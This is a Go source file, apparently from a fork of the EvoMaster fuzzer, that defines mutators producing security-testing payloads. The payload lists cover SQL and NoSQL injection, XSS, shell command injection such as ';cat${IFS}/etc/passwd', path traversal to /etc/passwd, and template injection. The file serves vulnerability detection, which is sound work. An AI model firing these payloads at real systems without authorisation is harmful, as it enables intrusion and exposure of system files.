// Package security provides the attack string mutations and response signatures
// used for parameters tagged with a VulnerabilityClass.
package security

import (
	"sort"
	"strings"

	"github.com/WebFuzzing/EvoMaster-sub017/pkg/types"
)

// MutationResult is one hostile variant of an input value
type MutationResult struct {
	Value    string
	Mutation string
	Class    types.VulnerabilityClass
}

// Mutator proposes hostile variants of a value for one vulnerability class
type Mutator interface {
	Class() types.VulnerabilityClass
	Mutate(value string) []MutationResult
}

// MutatorFunc adapts a plain function to Mutator
type MutatorFunc struct {
	class types.VulnerabilityClass
	fn    func(value string) []MutationResult
}

// NewMutatorFunc wraps fn as the mutator of class
func NewMutatorFunc(class types.VulnerabilityClass, fn func(value string) []MutationResult) *MutatorFunc {
	return &MutatorFunc{class: class, fn: fn}
}

func (m *MutatorFunc) Class() types.VulnerabilityClass      { return m.class }
func (m *MutatorFunc) Mutate(value string) []MutationResult { return m.fn(value) }

// suffixes builds results by appending each probe to value
func suffixes(class types.VulnerabilityClass, value string, probes map[string]string) []MutationResult {
	results := make([]MutationResult, 0, len(probes))
	for _, name := range sortedNames(probes) {
		results = append(results, MutationResult{
			Value:    value + probes[name],
			Mutation: name,
			Class:    class,
		})
	}
	return results
}

// SQLMutator appends SQL metacharacters, tautologies and comment terminators
type SQLMutator struct{}

func (SQLMutator) Class() types.VulnerabilityClass { return types.VulnSQLInjection }

func (SQLMutator) Mutate(value string) []MutationResult {
	results := suffixes(types.VulnSQLInjection, value, map[string]string{
		"sql_single_quote":    "'",
		"sql_double_quote":    `"`,
		"sql_tautology":       "' OR '1'='1",
		"sql_numeric_taut":    " OR 1=1",
		"sql_line_comment":    "'--",
		"sql_hash_comment":    "'#",
		"sql_union":           "' UNION SELECT NULL--",
		"sql_stacked":         "'; SELECT 1--",
		"sql_paren_close":     "')",
		"sql_inline_comment":  "'/**/OR/**/'1'='1",
		"sql_time_based":      "' AND SLEEP(1)--",
		"sql_backslash_quote": `\'`,
	})
	if strings.Contains(value, " ") {
		results = append(results, MutationResult{
			Value:    strings.ReplaceAll(value, " ", "/**/"),
			Mutation: "sql_comment_whitespace",
			Class:    types.VulnSQLInjection,
		})
	}
	return results
}

// NoSQLMutator injects document database operators and JavaScript escapes
type NoSQLMutator struct{}

func (NoSQLMutator) Class() types.VulnerabilityClass { return types.VulnNoSQLInjection }

func (NoSQLMutator) Mutate(value string) []MutationResult {
	results := []MutationResult{
		{Value: `{"$ne": null}`, Mutation: "nosql_ne_null"},
		{Value: `{"$gt": ""}`, Mutation: "nosql_gt_empty"},
		{Value: `{"$regex": ".*"}`, Mutation: "nosql_regex_any"},
		{Value: value + `' || '1'=='1`, Mutation: "nosql_js_or"},
		{Value: value + `'; return true; var x='`, Mutation: "nosql_where_escape"},
	}
	for _, op := range []string{"$eq", "$ne", "$gt", "$in"} {
		if strings.Contains(value, op) {
			results = append(results, MutationResult{
				Value:    strings.ReplaceAll(value, op, "$where"),
				Mutation: "nosql_operator_swap",
			})
		}
	}
	return withClass(types.VulnNoSQLInjection, results)
}

// XSSMutator wraps the value in script-bearing markup
type XSSMutator struct{}

func (XSSMutator) Class() types.VulnerabilityClass { return types.VulnXSS }

func (XSSMutator) Mutate(value string) []MutationResult {
	return suffixes(types.VulnXSS, value, map[string]string{
		"xss_script":        "<script>alert(1)</script>",
		"xss_img_onerror":   `"><img src=x onerror=alert(1)>`,
		"xss_svg_onload":    "<svg/onload=alert(1)>",
		"xss_attr_break":    `" autofocus onfocus=alert(1) x="`,
		"xss_js_uri":        "javascript:alert(1)",
		"xss_html_comment":  "<!--<script>alert(1)</script>-->",
		"xss_template_expr": "{{constructor.constructor('alert(1)')()}}",
	})
}

// CommandMutator chains shell commands onto the value
type CommandMutator struct{}

func (CommandMutator) Class() types.VulnerabilityClass { return types.VulnCommandInjection }

func (CommandMutator) Mutate(value string) []MutationResult {
	return suffixes(types.VulnCommandInjection, value, map[string]string{
		"cmd_semicolon": ";id",
		"cmd_pipe":      "|id",
		"cmd_and":       "&&id",
		"cmd_backtick":  "`id`",
		"cmd_subshell":  "$(id)",
		"cmd_newline":   "\nid",
		"cmd_ifs":       ";cat${IFS}/etc/passwd",
	})
}

// TraversalMutator replaces or prefixes the value with directory escapes
type TraversalMutator struct{}

func (TraversalMutator) Class() types.VulnerabilityClass { return types.VulnPathTraversal }

func (TraversalMutator) Mutate(value string) []MutationResult {
	results := []MutationResult{
		{Value: "../../../../etc/passwd", Mutation: "traversal_unix"},
		{Value: `..\..\..\..\windows\win.ini`, Mutation: "traversal_windows"},
		{Value: "..%2f..%2f..%2f..%2fetc%2fpasswd", Mutation: "traversal_encoded"},
		{Value: "....//....//....//etc/passwd", Mutation: "traversal_nested"},
		{Value: "../" + value, Mutation: "traversal_prefix"},
		{Value: value + "%00.png", Mutation: "traversal_null_byte"},
	}
	return withClass(types.VulnPathTraversal, results)
}

// SSTIMutator injects template expressions for the common engines
type SSTIMutator struct{}

func (SSTIMutator) Class() types.VulnerabilityClass { return types.VulnSSTI }

func (SSTIMutator) Mutate(value string) []MutationResult {
	results := suffixes(types.VulnSSTI, value, map[string]string{
		"ssti_jinja":      "{{7*7}}",
		"ssti_dollar":     "${7*7}",
		"ssti_erb":        "<%= 7*7 %>",
		"ssti_hash":       "#{7*7}",
		"ssti_freemarker": "<#assign x=7*7>${x}",
		"ssti_jinja_attr": "{{''.__class__}}",
	})
	if strings.Contains(value, "{{") {
		results = append(results, MutationResult{
			Value:    strings.ReplaceAll(strings.ReplaceAll(value, "{{", "{%"), "}}", "%}"),
			Mutation: "ssti_statement_delims",
			Class:    types.VulnSSTI,
		})
	}
	return results
}

func withClass(class types.VulnerabilityClass, results []MutationResult) []MutationResult {
	for i := range results {
		results[i].Class = class
	}
	return results
}

func sortedNames(m map[string]string) []string {
	names := make([]string, 0, len(m))
	for k := range m {
		names = append(names, k)
	}
	sort.Strings(names)
	return names
}
